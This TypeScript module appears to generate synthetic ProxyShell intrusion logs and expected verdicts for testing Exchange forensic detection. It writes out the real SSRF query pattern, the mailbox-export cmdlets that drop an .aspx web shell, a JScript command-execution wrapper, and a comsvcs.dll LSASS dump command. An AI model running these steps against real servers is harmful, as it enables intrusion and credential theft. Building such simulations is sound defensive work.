import { DAY, HOUR, MINUTE } from './format.js';
import { Rng } from './prng.js';
import { newReq, type Req } from './request.js';
import type { PlantedFile } from './proxylogon.js';
import { ewsLine, lsassDump, pstShell, rpsCat, rpsLine, scenarioPlan, type ExtraLine, type ScenarioPlan } from './attack-kit.js';
import type { World } from './world.js';

/**
 * ProxyShell (CVE-2021-34473/34523/31207, August 2021), after the public write-ups (Orange Tsai's talk,
 * PeterJson's reproduction, Huntress and CISA AA21-321A): `autodiscover.json?@x/…&Email=autodiscover/autodiscover.json%3F@x`
 * reaches the back end anonymously — autodiscover.xml (the target's LegacyDN), `/mapi/emsmdb` (its SID), `/EWS`
 * (a draft with the encoded shell in the target's mailbox), then `/powershell` with an `X-Rps-CAT` token naming an
 * administrator: the Mailbox Import Export role, `New-MailboxExportRequest` of the draft to an `.aspx` file under
 * `aspnet_client` through `\\127.0.0.1\c$`, `Remove-MailboxExportRequest`, then the shell is used.
 */

export interface ShellActorInput {
  world: World;
  rng: Rng;
  start: number;
  exploitIp: string;
  shellIp: string;
  /** Domain the attacker puts after `@` (any string works). */
  atDomain: string;
  /** Mailbox whose draft carries the shell (the export target). */
  victim: { upn: string; sid: string };
  shellName: string;
  /** Write an LSASS dump after the commands. */
  lsass?: string;
}

export interface ShellActor {
  reqs: Req[];
  rps: ExtraLine[];
  ews: ExtraLine[];
  files: PlantedFile[];
  shellRel: string;
  shellUrl: string;
  secret: string;
  shellUa: string;
  end: number;
  admin: string;
}

const PY_UA = 'python-requests/2.26.0';
const SHELL_UA = 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/92.0.4515.131 Safari/537.36';

/** One actor's ProxyShell chain, shell drop and shell use. */
export function proxyShellActor(i: ShellActorInput): ShellActor {
  const { world, rng } = i;
  const host = world.host;
  const at = i.atDomain;
  const email = `&Email=autodiscover/autodiscover.json%3F@${at}`;
  const admin = world.admin.upn;
  const cat = rpsCat(admin, world.admin.sid);
  const reqs: Req[] = [];
  let t = i.start;
  const ssrf = (backend: string, beStem: string, method: string, status: number, note: string, gap: [number, number]): Req => {
    t += rng.range(gap[0], gap[1]);
    const r = newReq(rng, {
      t, proto: 'Autodiscover', host: host.publicHost, ip: i.exploitIp, ua: PY_UA, stem: '/autodiscover/autodiscover.json',
      query: `?@${at}/${backend}${email}`, method, status, beStatus: status, dur: rng.range(40, 900), reqBytes: rng.range(300, 3000),
      respBytes: rng.range(200, 6000), beStem, beQuery: `${backend.split('?')[1] ?? ''}${email}`, routingType: 'Local',
      mark: { kind: 'ssrf', note },
    });
    reqs.push(r);
    return r;
  };
  ssrf('autodiscover/autodiscover.xml?', '/autodiscover/autodiscover.xml', 'POST', 200, 'ProxyShell SSRF to autodiscover.xml (target LegacyDN)', [0, 0]);
  ssrf('mapi/emsmdb?', '/mapi/emsmdb', 'POST', 200, 'ProxyShell SSRF to /mapi/emsmdb (target SID)', [2000, 5000]);
  const ewsT = ssrf('EWS/exchange.asmx?', '/EWS/exchange.asmx', 'POST', 200, 'ProxyShell SSRF to EWS: draft with the encoded shell saved in the target mailbox', [3000, 9000]).t;
  const ews: ExtraLine[] = [
    ewsLine(rng, {
      t: ewsT - rng.range(5, 40), user: 'S-1-5-18', ua: PY_UA, ip: i.exploitIp, action: 'CreateItem', impersonated: i.victim.upn,
      mark: { kind: 'ews-access', note: 'EWS CreateItem in the target mailbox through the SSRF (the shell draft)', value: i.victim.upn, ip: i.exploitIp },
    }),
  ];
  const rps: ExtraLine[] = [];
  const secret = rng.alnum(rng.range(6, 10));
  const shellRel = `inetpub/wwwroot/aspnet_client/${i.shellName}`;
  const shellUrl = `/aspnet_client/${i.shellName}`;
  const unc = `\\\\127.0.0.1\\c$\\inetpub\\wwwroot\\aspnet_client\\${i.shellName}`;
  const subject = rng.alnum(10, 'abcdefghijklmnopqrstuvwxyz');
  const cmdlets: Array<[string, string, string | undefined]> = [
    ['Get-Mailbox', `-Identity "${i.victim.upn}"`, undefined],
    ['New-ManagementRoleAssignment', `-Role "Mailbox Import Export" -User "${admin}"`, 'Mailbox Import Export role given to the impersonated administrator'],
    ['New-MailboxExportRequest', `-Mailbox "${i.victim.upn}" -IncludeFolders ("#Drafts#") -ContentFilter "(Subject -eq '${subject}')" -ExportPassword "" -FilePath "${unc}"`, 'ProxyShell: mailbox draft exported to an .aspx web shell'],
    ['Remove-MailboxExportRequest', `-Identity "${i.victim.upn}\\MailboxExport" -Confirm:$false`, 'export request removed to hide it'],
  ];
  let written = 0;
  for (const [k, [cmdlet, params, note]] of cmdlets.entries()) {
    const r = ssrf(`powershell/?X-Rps-CAT=${cat}`, '/powershell', 'POST', 200, `ProxyShell SSRF to Remote PowerShell as ${admin} (X-Rps-CAT)`, k === 0 ? [4000, 12000] : [3000, 20000]);
    rps.push(rpsLine(rng, {
      t: r.t - rng.range(20, 200), user: admin, sid: world.admin.sid, cmdlet, parameters: params,
      ...(note ? { mark: { kind: cmdlet === 'New-MailboxExportRequest' ? 'mailbox-export' : 'rps-cmdlet', note, value: cmdlet } } : {}),
    }));
    if (cmdlet === 'New-MailboxExportRequest') written = r.t + rng.range(20, 90) * 1000;
  }
  const files: PlantedFile[] = [{
    rel: shellRel, content: pstShell(rng, secret), mtime: written, kind: 'webshell-file',
    note: 'PST-wrapped JScript shell written by New-MailboxExportRequest (ProxyShell)', lineValue: undefined,
  }];
  // Shell use: a check from the exploit IP, then commands from the operator's IP.
  t = written + rng.range(30, 120) * 1000;
  reqs.push(newReq(rng, {
    t, proto: null, host: host.publicHost, ip: i.exploitIp, ua: PY_UA, stem: shellUrl, method: 'GET', status: 200, beStatus: null,
    dur: rng.range(60, 300), respBytes: rng.range(9000, 16000), mark: { kind: 'webshell-access', note: 'first request to the exported shell (200)' },
  }));
  t += rng.range(1, 3) * HOUR;
  const commands = ['whoami', 'ipconfig /all', 'net group "Domain Admins" /domain', 'tasklist', ...(i.lsass ? [`rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 688 ${i.lsass} full`] : []), 'dir C:\\Windows\\Temp'];
  let lsassT = 0;
  for (const cmd of commands) {
    t += rng.range(30, 900) * 1000;
    const js = `Response.Write(new ActiveXObject("WScript.Shell").Exec("cmd.exe /c ${cmd.replace(/"/g, '\\"')}").StdOut.ReadAll());`;
    reqs.push(newReq(rng, {
      t, proto: null, host: host.publicHost, ip: i.shellIp, ua: SHELL_UA, stem: shellUrl, query: `?${secret}=${encodeURIComponent(js).replace(/'/g, '%27')}`,
      method: 'POST', status: 200, beStatus: null, dur: rng.range(100, 3000), reqBytes: rng.range(300, 900), respBytes: rng.range(9000, 20000),
      mark: { kind: 'webshell-access', note: `shell command: ${cmd}` },
    }));
    if (cmd.includes('MiniDump')) lsassT = t + rng.range(2000, 9000);
  }
  if (i.lsass) {
    files.push({ rel: i.lsass.replace(/^C:\\/, '').replace(/\\/g, '/'), content: lsassDump(rng), mtime: lsassT, kind: 'lsass-dump', note: 'LSASS memory dump (comsvcs.dll MiniDump)', ip: i.shellIp });
  }
  return { reqs, rps, ews, files, shellRel, shellUrl, secret, shellUa: SHELL_UA, end: t, admin };
}

/** The public check (Kevin Beaumont's nmap script): `autodiscover.json?@test.com/owa/?&Email=…` answered 302 by a vulnerable server. */
export function proxyShellProbe(rng: Rng, world: World, ip: string, t: number): Req {
  return newReq(rng, {
    t, proto: 'Autodiscover', host: world.host.publicHost, ip, ua: 'Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)',
    stem: '/autodiscover/autodiscover.json', query: '?@test.com/owa/?&Email=autodiscover/autodiscover.json%3F@test.com', method: 'GET',
    status: 302, beStatus: 302, dur: rng.range(20, 200), beStem: '/owa/', beQuery: '&Email=autodiscover/autodiscover.json%3F@test.com',
    mark: { kind: 'scanner', note: 'ProxyShell vulnerability check (302 = vulnerable)' },
  });
}

export function planProxyShell(input: { world: World; rng: Rng; exploitTime: number; periodStart: number }): ScenarioPlan {
  const { world, rng } = input;
  const exploitIp = `203.0.113.${rng.range(20, 90)}`;
  const shellIp = `198.51.100.${rng.range(100, 180)}`;
  const scannerIps = [`192.0.2.${rng.range(10, 60)}`, `192.0.2.${rng.range(100, 160)}`];
  const reqs: Req[] = [];
  for (const [k, ip] of scannerIps.entries()) {
    const base = Math.max(input.periodStart + HOUR, input.exploitTime - (k + 2) * DAY + rng.int(8 * HOUR));
    for (let n = 0; n < 3; n++) reqs.push(proxyShellProbe(rng, world, ip, base + n * rng.range(1, 20) * MINUTE));
  }
  const victim = world.users[3] ?? world.users[0]!;
  // The exploit IP checks the server first (the first step of its story).
  reqs.push(proxyShellProbe(rng, world, exploitIp, input.exploitTime - rng.range(20, 50) * MINUTE));
  const shellName = `${rng.alnum(6, 'abcdefghijklmnopqrstuvwxyz')}.aspx`;
  const a = proxyShellActor({ world, rng, start: input.exploitTime, exploitIp, shellIp, atDomain: `${rng.alnum(5, 'abcdefghijklmnopqrstuvwxyz')}.com`, victim, shellName, lsass: 'C:\\Windows\\Temp\\lsass.dmp' });
  reqs.push(...a.reqs);
  return scenarioPlan({
    reqs, files: a.files, rps: a.rps, ews: a.ews, exploitIp, shellIp, scannerIps, failedAttemptIps: [], exploitTime: input.exploitTime,
    shellRel: a.shellRel, shellUrl: a.shellUrl, secret: a.secret, lsassRel: 'Windows/Temp/lsass.dmp', archiveRel: '', shellUa: a.shellUa,
    expect: {
      verdicts: { proxyshell: 'compromised' },
      incidents: [{
        status: 'compromised', ips: [exploitIp, shellIp], shells: [a.shellUrl], mailboxes: [victim.upn.toLowerCase()], accounts: [a.admin],
        allMailboxesReachable: true, stages: ['probe', 'exploit', 'file-write', 'shell-access', 'credential-dump'],
      }],
      scannerIps,
    },
  });
}
